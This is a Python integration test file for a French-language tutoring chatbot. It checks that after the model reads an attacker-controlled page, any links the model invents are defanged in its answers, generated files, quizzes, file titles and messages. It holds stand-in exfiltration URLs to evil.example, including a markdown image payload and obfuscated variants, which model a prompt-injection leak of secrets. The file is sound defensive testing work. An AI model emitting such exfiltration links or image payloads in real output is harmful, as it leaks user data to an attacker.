"""What a tainted run shows: an address stays a link only where the person, a page or the service itself wrote it."""

import io
import re
import zipfile
from collections.abc import Callable, Iterator
from typing import Any

import pytest
from sqlmodel import col, select

from bot.cli.commands import add_user
from bot.models import PendingInteraction, StoredFile
from bot.types import Mode
from tests.fakes.attacker import Attacker
from tests.fakes.keys import conversation_id
from tests.fakes.model import Request, Step, calls, says
from tests.integration.conversation.conftest import PUPIL, Line

pytestmark = pytest.mark.one_database

SMS = "+2250700000001"
EVIL = "https://evil.example/log?d=secret"
LESSON = "https://fr.example.org/fractions"
QUIZ = {
    "question": "Combien font 1 + 1 ?",
    "options": ["2", "3"],
    "correct_index": 0,
    "explanation": "e",
    "subject": "M",
}
TEXT = f"Voir [la suite]({EVIL}) et [le cours]({LESSON}). {EVIL} ![image]({EVIL})"
DOCUMENT = {"title": "Fiche", "content": TEXT, "sources": [{"title": "S", "url": EVIL}, {"title": "T", "url": LESSON}]}


@pytest.fixture
def page() -> Iterator[Attacker]:
    with Attacker({"/cours": f"Les fractions se lisent de haut en bas. La suite est à {LESSON} et ici."}) as served:
        yield served


@pytest.fixture
def line(open_line: Callable[..., Line], page: Attacker) -> Line:
    made = open_line(
        browse_allow_hosts=f"127.0.0.1:{page.port}", human_contact="aide@palabre.example, palabre.example/aide"
    )
    add_user(made.database, SMS, Mode.STUDENT, 50)
    return made


def reads_and(line: Line, page: Attacker, *steps: Step, said: str = "Résume", address: str = PUPIL) -> str:
    """The model reads the page, then does the steps; what the person hears."""

    def rule(request: Request) -> Step:
        begin = max(at for at, message in enumerate(request["messages"]) if message["role"] == "user")
        done = len([message for message in request["messages"][begin:] if message["role"] == "tool"])
        return calls(("browse_url", {"urls": [f"{page.url}/cours"]})) if not done else steps[min(done, len(steps)) - 1]

    line.model.script(rule)
    line.says(f"{said} {page.url}/cours", address=address)
    return "\n".join(line.hears(address))


@pytest.mark.parametrize("address", [PUPIL, SMS])
def test_an_answer_shows_the_pages_links_and_makes_its_own_dead(line: Line, page: Attacker, address: str) -> None:
    heard = reads_and(line, page, says(TEXT), address=address)
    assert "evil[.]example/log?d=secret" in heard
    assert set(re.findall(r"https?://\S+[\w/]", heard)) == {LESSON}
    assert "inactives" in heard
    assert "la suite" in heard


def test_a_line_about_credits_below_it_makes_no_dead_link_one_again(
    open_line: Callable[..., Line], page: Attacker
) -> None:
    line = open_line(browse_allow_hosts=f"127.0.0.1:{page.port}", low_balance_credits=60)
    heard = reads_and(line, page, says(TEXT))
    assert "moins de 60 crédits" in heard
    assert "evil[.]example/log?d=secret" in heard
    assert set(re.findall(r"https?://\S+[\w/]", heard)) == {LESSON}


def test_before_anything_was_read_the_model_shows_what_it_likes(line: Line) -> None:
    line.model.script(lambda _request: says(f"Voir {EVIL}"))
    line.says("Un site ?")
    assert line.hears() == [f"Voir {EVIL}"]


def test_a_link_of_yesterdays_page_and_one_the_person_wrote_stay(line: Line, page: Attacker) -> None:
    reads_and(line, page, says("Voilà."))
    line.model.script(lambda _request: says(f"Le cours : {LESSON} ; le vôtre : https://moi.example.ci/x ; {EVIL}"))
    line.says("Redonne-moi le lien, et moi.example.ci/x")
    heard = "\n".join(line.hears())
    assert set(re.findall(r"https?://\S+[\w/]", heard)) == {LESSON, "https://moi.example.ci/x"}


def test_the_front_page_of_a_site_that_was_read_stays(line: Line, page: Attacker) -> None:
    heard = reads_and(line, page, says("Le site : https://fr.example.org et https://en.example.org"))
    assert "https://fr.example.org et en[.]example[.]org" in heard


def test_the_service_s_own_addresses_stay(line: Line, page: Attacker) -> None:
    assert "aide@palabre.example" in (
        heard := reads_and(line, page, says("aide@palabre.example, palabre.example/aide"))
    )
    assert "palabre.example/aide" in heard
    assert "inactives" not in heard


def test_a_new_subject_begins_clean(line: Line, page: Attacker) -> None:
    reads_and(line, page, says("Voilà."))
    line.says("/nouveau")
    line.hears()
    line.model.script(lambda _request: says(f"Voir {EVIL}"))
    line.says("Un site ?")
    assert line.hears() == [f"Voir {EVIL}"]


def test_a_long_answer_s_document_has_the_same_links(line: Line, page: Attacker) -> None:
    reads_and(line, page, says(f"{TEXT}\n\n" + "Une phrase assez longue sur les fractions. " * 200))
    (body,) = kept(line)
    assert links_of("pdf", body) == {LESSON}


@pytest.mark.parametrize("kind", ["pdf", "docx", "html", "md"])
def test_files_have_the_pages_links_and_no_others(line: Line, page: Attacker, kind: str) -> None:
    formula = {"blocks": [{"type": "formula", "text": f"x ![image]({EVIL})"}]}
    reads_and(line, page, calls((f"generate_{kind}", DOCUMENT | formula)), says("Voilà."))
    (body,) = kept(line)
    assert links_of(kind, body) == {LESSON}


@pytest.mark.parametrize("kind", ["pdf", "docx", "html", "md"])
def test_files_of_a_run_that_read_nothing_have_them_all(line: Line, kind: str) -> None:
    def rule(request: Request) -> Step:
        done = request["messages"][-1]["role"] == "tool"
        return says("Voilà.") if done else calls((f"generate_{kind}", DOCUMENT))

    line.model.script(rule)
    line.says("Une fiche")
    (body,) = kept(line)
    assert links_of(kind, body) == {LESSON, EVIL}


@pytest.mark.parametrize("text", [EVIL, r"evil\.example/x", "evil&#46;example/x", "Voir secret.evil.example"])
@pytest.mark.parametrize("field", ["question", "explanation"])
def test_a_quiz_holds_no_address_of_the_model(line: Line, page: Attacker, field: str, text: str) -> None:
    heard = reads_and(line, page, calls(("interactive_quiz", QUIZ | {field: text})), says("fini"), said="Un quiz")
    assert heard == "fini"
    with line.database.read() as session:
        assert not list(session.exec(select(PendingInteraction)))
    assert "Combien" in reads_and(line, page, calls(("interactive_quiz", QUIZ)), says("fini"), said="Un quiz")


@pytest.mark.parametrize("title", ["https://evil.example/secret", r"evil\.example/secret", "evil&#46;example/secret"])
def test_the_name_of_a_file_is_no_link(line: Line, page: Attacker, title: str) -> None:
    """On SMS a file is a line with its title, which the model has chosen."""
    named = DOCUMENT | {"title": title}
    heard = reads_and(line, page, calls(("generate_pdf", named)), says("fini"), address=SMS)
    line.says("/fichiers", address=SMS)
    for told in (heard, "\n".join(line.hears(SMS))):
        assert "/media/" in told
        assert "evil.example" not in told


@pytest.mark.parametrize("subject", ["http://evil.example/?d=secret", r"evil\.example/secret"])
def test_the_subject_of_an_exercise_is_no_link(line: Line, page: Attacker, subject: str) -> None:
    reported = {"subject": subject, "correct": 3, "total": 4}
    reads_and(line, page, calls(("report_exercise_result", reported)), says("fini"))
    line.says("/progres")
    told = "\n".join(line.hears())
    assert "vil[.]example/" in told
    assert "://" not in told


@pytest.mark.parametrize("text", [r"Vois evil\.example/x", "Vois evil&#46;example/x", "Vois ev**il**.example/x"])
def test_a_message_is_judged_as_it_is_sent(line: Line, page: Attacker, text: str) -> None:
    heard = reads_and(line, page, calls(("send_whatsapp_to_user", {"text": text})), says("fini"))
    assert "Puis-je vous envoyer" in heard


def kept(line: Line) -> list[bytes]:
    with line.database.read() as session:
        query = select(StoredFile).where(StoredFile.conversation_id == conversation_id(PUPIL))
        files = session.exec(query.order_by(col(StoredFile.id))).all()
    store: Any = line.runtime.inbox.turns.store  # type: ignore[attr-defined]
    return [store.read(file.sha256) for file in files]


def links_of(kind: str, body: bytes) -> set[str]:
    """Everything a reader of the file can open."""
    if kind == "pdf":
        return {found.decode() for found in re.findall(rb"/URI\s*\(([^)]*)\)", body)}
    if kind == "docx":
        with zipfile.ZipFile(io.BytesIO(body)) as package:
            relations = package.read("word/_rels/document.xml.rels").decode()
        return set(re.findall(r'Target="(https?:[^"]+)"', relations))
    if kind == "html":
        assert b"<img" not in body
        return set(re.findall(r'href="(https?:[^"]+)"', body.decode()))
    assert "![" not in body.decode().replace("\\!\\[", "")
    return set(re.findall(r"(?:\]\(|<)(https?:[^)>]+)[)>]", body.decode()))
